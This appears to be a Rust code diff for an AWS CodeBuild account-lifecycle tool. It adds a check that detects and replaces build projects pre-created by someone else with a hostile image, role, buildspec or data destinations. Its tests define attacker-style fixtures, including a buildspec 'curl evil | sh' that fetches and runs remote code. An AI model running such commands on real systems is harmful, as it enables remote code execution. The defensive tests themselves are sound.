@@ -10,8 +10,9 @@ use std::sync::Mutex;
 use std::sync::atomic::{AtomicU64, Ordering};
 
 use aws_sdk_codebuild::types::{
-    ArtifactsType, ComputeType, EnvironmentType, EnvironmentVariable, ProjectArtifacts,
-    ProjectEnvironment, ProjectSource, SourceType,
+    ArtifactsType, CacheType, ComputeType, EnvironmentType, EnvironmentVariable,
+    ImagePullCredentialsType, LogsConfigStatusType, Project, ProjectArtifacts, ProjectEnvironment,
+    ProjectSource, ProjectVisibilityType, SourceType,
 };
 use spa_core::Settings;
 use spa_core::aws::ApiError;
@@ -129,31 +130,26 @@ impl Builds {
                     account: account.to_string(),
                     message: e.to_string(),
                 })?;
-                let start = || {
-                    requests.fetch_add(1, Ordering::Relaxed);
-                    client
-                        .start_build()
-                        .project_name(&project)
-                        .buildspec_override(buildspec(request.kind))
-                        .idempotency_token(&request.token)
-                        .set_environment_variables_override(Some(variables.clone()))
-                        .send()
-                };
-                let output = match start().await {
-                    Ok(o) => o,
-                    Err(e)
-                        if e.as_service_error()
-                            .is_some_and(|s| s.is_resource_not_found_exception()) =>
-                    {
-                        // First build in this account: create its project, then start again.
-                        requests.fetch_add(1, Ordering::Relaxed);
-                        create_project(&client, settings, account, request.kind, &project).await?;
-                        start()
-                            .await
-                            .map_err(|e| Error::build(account, ApiError::new("StartBuild", &e)))?
-                    }
-                    Err(e) => return Err(Error::build(account, ApiError::new("StartBuild", &e))),
-                };
+                ensure_project(&client, settings, account, request.kind, requests).await?;
+                requests.fetch_add(1, Ordering::Relaxed);
+                // The definition was checked just now; the overrides hold even if it changed
+                // since (only the VPC and file systems cannot be overridden).
+                let output = client
+                    .start_build()
+                    .project_name(&project)
+                    .source_type_override(SourceType::NoSource)
+                    .buildspec_override(buildspec(request.kind))
+                    .environment_type_override(EnvironmentType::LinuxContainer)
+                    .image_override(IMAGE)
+                    .compute_type_override(ComputeType::BuildGeneral1Small)
+                    .privileged_mode_override(false)
+                    .service_role_override(service_role(settings, account))
+                    .timeout_in_minutes_override(TIMEOUT_MINUTES)
+                    .idempotency_token(&request.token)
+                    .set_environment_variables_override(Some(variables.clone()))
+                    .send()
+                    .await
+                    .map_err(|e| Error::build(account, ApiError::new("StartBuild", &e)))?;
                 output
                     .build_value()
                     .and_then(|b| b.id())
@@ -185,6 +181,164 @@ fn environment(
         .collect()
 }
 
+/// Build timeout of the projects the lifecycle creates.
+const TIMEOUT_MINUTES: i32 = 60;
+
+/// The role the lifecycle's builds run as in `account`.
+fn service_role(settings: &Settings, account: &AccountId) -> String {
+    format!(
+        "arn:aws:iam::{account}:role/{}",
+        settings.automation.account_role
+    )
+}
+
+/// How a project found in a member account differs from the one the lifecycle creates, in
+/// everything that decides what a build runs, as whom, where, and who sees it: empty when it is
+/// ours. A project someone else defined under our name (a holder can create one before the
+/// first build) would otherwise run their image, their role, their variables.
+pub fn differences(project: &Project, kind: BuildKind, role: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut differs = |what: &str, found: String| out.push(format!("{what}: {found}"));
+    match project.source() {
+        Some(s) if *s.r#type() == SourceType::NoSource => {
+            if s.buildspec() != Some(buildspec(kind)) {
+                differs("buildspec", "not the lifecycle's".into());
+            }
+        }
+        other => differs(
+            "source",
+            format!("{:?}", other.map(|s| s.r#type().as_str())),
+        ),
+    }
+    if !project.secondary_sources().is_empty() {
+        differs(
+            "secondary sources",
+            project.secondary_sources().len().to_string(),
+        );
+    }
+    if !project.secondary_artifacts().is_empty() {
+        differs(
+            "secondary artifacts",
+            project.secondary_artifacts().len().to_string(),
+        );
+    }
+    match project.artifacts().map(|a| a.r#type()) {
+        Some(ArtifactsType::NoArtifacts) => {}
+        other => differs("artifacts", format!("{:?}", other.map(|t| t.as_str()))),
+    }
+    match project.environment() {
+        Some(e) => {
+            if *e.r#type() != EnvironmentType::LinuxContainer {
+                differs("environment type", e.r#type().as_str().into());
+            }
+            if e.image() != IMAGE {
+                differs("image", e.image().into());
+            }
+            if *e.compute_type() != ComputeType::BuildGeneral1Small {
+                differs("compute type", e.compute_type().as_str().into());
+            }
+            if e.privileged_mode() == Some(true) {
+                differs("privileged mode", "on".into());
+            }
+            if !e.environment_variables().is_empty() {
+                let names: Vec<&str> = e.environment_variables().iter().map(|v| v.name()).collect();
+                differs("environment variables", names.join(", "));
+            }
+            if e.certificate().is_some() {
+                differs("certificate", "set".into());
+            }
+            if e.registry_credential().is_some() {
+                differs("registry credential", "set".into());
+            }
+            if e.fleet().is_some() {
+                differs("fleet", "set".into());
+            }
+            if e.docker_server().is_some() {
+                differs("docker server", "set".into());
+            }
+            if e.image_pull_credentials_type()
+                .is_some_and(|t| *t != ImagePullCredentialsType::Codebuild)
+            {
+                differs("image pull credentials", "the service role's".into());
+            }
+        }
+        None => differs("environment", "none".into()),
+    }
+    if project.service_role() != Some(role) {
+        differs(
+            "service role",
+            project.service_role().unwrap_or("none").into(),
+        );
+    }
+    if project.vpc_config().is_some_and(|v| v.vpc_id().is_some()) {
+        differs("VPC", "set".into());
+    }
+    if !project.file_system_locations().is_empty() {
+        differs(
+            "file systems",
+            project.file_system_locations().len().to_string(),
+        );
+    }
+    if project
+        .cache()
+        .is_some_and(|c| *c.r#type() != CacheType::NoCache)
+    {
+        differs("cache", "set".into());
+    }
+    if project
+        .logs_config()
+        .and_then(|l| l.s3_logs())
+        .is_some_and(|l| *l.status() == LogsConfigStatusType::Enabled)
+    {
+        differs("S3 logs", "on".into());
+    }
+    if project
+        .project_visibility()
+        .is_some_and(|v| *v != ProjectVisibilityType::Private)
+    {
+        differs("visibility", "public".into());
+    }
+    if project.build_batch_config().is_some() {
+        differs("batch builds", "set".into());
+    }
+    out
+}
+
+/// Makes sure the account's project for `kind` is the lifecycle's own: created when missing,
+/// deleted and created again when [`differences`] finds anything (logged with what differed).
+async fn ensure_project(
+    client: &aws_sdk_codebuild::Client,
+    settings: &Settings,
+    account: &AccountId,
+    kind: BuildKind,
+    requests: &AtomicU64,
+) -> Result<(), Error> {
+    let project = kind.project(settings);
+    requests.fetch_add(1, Ordering::Relaxed);
+    let found = client
+        .batch_get_projects()
+        .names(&project)
+        .send()
+        .await
+        .map_err(|e| Error::build(account, ApiError::new("BatchGetProjects", &e)))?;
+    if let Some(existing) = found.projects().first() {
+        let differs = differences(existing, kind, &service_role(settings, account));
+        if differs.is_empty() {
+            return Ok(());
+        }
+        tracing::warn!(%account, %project, differs = %differs.join("; "), "project is not the lifecycle's: replaced");
+        requests.fetch_add(1, Ordering::Relaxed);
+        client
+            .delete_project()
+            .name(&project)
+            .send()
+            .await
+            .map_err(|e| Error::build(account, ApiError::new("DeleteProject", &e)))?;
+    }
+    requests.fetch_add(1, Ordering::Relaxed);
+    create_project(client, settings, account, kind, &project).await
+}
+
 async fn create_project(
     client: &aws_sdk_codebuild::Client,
     settings: &Settings,
@@ -212,10 +366,7 @@ async fn create_project(
         .compute_type(ComputeType::BuildGeneral1Small)
         .build()
         .map_err(invalid)?;
-    let role = format!(
-        "arn:aws:iam::{account}:role/{}",
-        settings.automation.account_role
-    );
+    let role = service_role(settings, account);
     match client
         .create_project()
         .name(project)
@@ -228,7 +379,7 @@ async fn create_project(
         .artifacts(artifacts)
         .environment(environment)
         .service_role(role)
-        .timeout_in_minutes(60)
+        .timeout_in_minutes(TIMEOUT_MINUTES)
         .send()
         .await
     {
@@ -241,5 +392,225 @@ async fn create_project(
             Ok(())
         }
         Err(e) => Err(Error::build(account, ApiError::new("CreateProject", &e))),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use aws_sdk_codebuild::types::builders::{ProjectBuilder, ProjectEnvironmentBuilder};
+    use aws_sdk_codebuild::types::*;
+
+    use super::*;
+
+    const ROLE: &str = "arn:aws:iam::300001010101:role/AWSControlTowerExecution";
+
+    fn environment() -> ProjectEnvironmentBuilder {
+        ProjectEnvironment::builder()
+            .r#type(EnvironmentType::LinuxContainer)
+            .image(IMAGE)
+            .compute_type(ComputeType::BuildGeneral1Small)
+    }
+
+    /// The project the lifecycle creates, with `edit` applied.
+    fn project(edit: impl FnOnce(ProjectBuilder) -> ProjectBuilder) -> Project {
+        let ours = Project::builder()
+            .name("spa-prepare-account")
+            .source(
+                ProjectSource::builder()
+                    .r#type(SourceType::NoSource)
+                    .buildspec(buildspec(BuildKind::Preparation))
+                    .build()
+                    .unwrap(),
+            )
+            .artifacts(
+                ProjectArtifacts::builder()
+                    .r#type(ArtifactsType::NoArtifacts)
+                    .build()
+                    .unwrap(),
+            )
+            .environment(environment().build().unwrap())
+            .service_role(ROLE)
+            .cache(
+                ProjectCache::builder()
+                    .r#type(CacheType::NoCache)
+                    .build()
+                    .unwrap(),
+            );
+        edit(ours).build()
+    }
+
+    /// Ours passes; each way a pre-created project can change what a build runs, as whom,
+    /// where or for whose eyes is found, and named.
+    #[test]
+    fn a_project_is_ours_only_when_nothing_that_matters_differs() {
+        let differs = |p: &Project| differences(p, BuildKind::Preparation, ROLE);
+        assert_eq!(differs(&project(|p| p)), Vec::<String>::new());
+        let env = |edit: fn(ProjectEnvironmentBuilder) -> ProjectEnvironmentBuilder| {
+            edit(environment()).build().unwrap()
+        };
+        let variable = EnvironmentVariable::builder()
+            .name("BASH_ENV")
+            .value("/tmp/x")
+            .build()
+            .unwrap();
+        let cases: Vec<(&str, Project)> = vec![
+            (
+                "image",
+                project(|p| p.environment(env(|e| e.image("evil/image:latest")))),
+            ),
+            (
+                "privileged mode",
+                project(|p| p.environment(env(|e| e.privileged_mode(true)))),
+            ),
+            (
+                "environment variables",
+                project(|p| {
+                    p.environment(
+                        environment()
+                            .environment_variables(variable)
+                            .build()
+                            .unwrap(),
+                    )
+                }),
+            ),
+            (
+                "compute type",
+                project(|p| {
+                    p.environment(env(|e| e.compute_type(ComputeType::BuildGeneral12Xlarge)))
+                }),
+            ),
+            (
+                "environment type",
+                project(|p| p.environment(env(|e| e.r#type(EnvironmentType::ArmContainer)))),
+            ),
+            (
+                "certificate",
+                project(|p| p.environment(env(|e| e.certificate("bucket/ca.pem")))),
+            ),
+            (
+                "image pull credentials",
+                project(|p| {
+                    p.environment(env(|e| {
+                        e.image_pull_credentials_type(ImagePullCredentialsType::ServiceRole)
+                    }))
+                }),
+            ),
+            (
+                "service role",
+                project(|p| p.service_role("arn:aws:iam::300001010101:role/holder-admin")),
+            ),
+            (
+                "buildspec",
+                project(|p| {
+                    p.source(
+                        ProjectSource::builder()
+                            .r#type(SourceType::NoSource)
+                            .buildspec("phases: {build: {commands: [curl evil | sh]}}")
+                            .build()
+                            .unwrap(),
+                    )
+                }),
+            ),
+            (
+                "source",
+                project(|p| {
+                    p.source(
+                        ProjectSource::builder()
+                            .r#type(SourceType::Github)
+                            .location("https://github.com/evil/repo")
+                            .build()
+                            .unwrap(),
+                    )
+                }),
+            ),
+            (
+                "secondary sources",
+                project(|p| {
+                    p.secondary_sources(
+                        ProjectSource::builder()
+                            .r#type(SourceType::S3)
+                            .location("evil/src.zip")
+                            .build()
+                            .unwrap(),
+                    )
+                }),
+            ),
+            (
+                "artifacts",
+                project(|p| {
+                    p.artifacts(
+                        ProjectArtifacts::builder()
+                            .r#type(ArtifactsType::S3)
+                            .location("evil")
+                            .build()
+                            .unwrap(),
+                    )
+                }),
+            ),
+            (
+                "VPC",
+                project(|p| p.vpc_config(VpcConfig::builder().vpc_id("vpc-1").build())),
+            ),
+            (
+                "file systems",
+                project(|p| {
+                    p.file_system_locations(
+                        ProjectFileSystemLocation::builder()
+                            .location("fs-1.efs:/")
+                            .build(),
+                    )
+                }),
+            ),
+            (
+                "cache",
+                project(|p| {
+                    p.cache(
+                        ProjectCache::builder()
+                            .r#type(CacheType::S3)
+                            .location("evil/cache")
+                            .build()
+                            .unwrap(),
+                    )
+                }),
+            ),
+            (
+                "S3 logs",
+                project(|p| {
+                    p.logs_config(
+                        LogsConfig::builder()
+                            .s3_logs(
+                                S3LogsConfig::builder()
+                                    .status(LogsConfigStatusType::Enabled)
+                                    .location("evil/logs")
+                                    .build()
+                                    .unwrap(),
+                            )
+                            .build(),
+                    )
+                }),
+            ),
+            (
+                "visibility",
+                project(|p| p.project_visibility(ProjectVisibilityType::PublicRead)),
+            ),
+            (
+                "batch builds",
+                project(|p| {
+                    p.build_batch_config(
+                        ProjectBuildBatchConfig::builder()
+                            .service_role(ROLE)
+                            .build(),
+                    )
+                }),
+            ),
+        ];
+        for (what, hostile) in cases {
+            let found = differs(&hostile);
+            assert_eq!(found.len(), 1, "{what}: {found:?}");
+            assert!(
+                found[0].starts_with(&format!("{what}: ")),
+                "{what}: {found:?}"
+            );
+        }
     }
 }
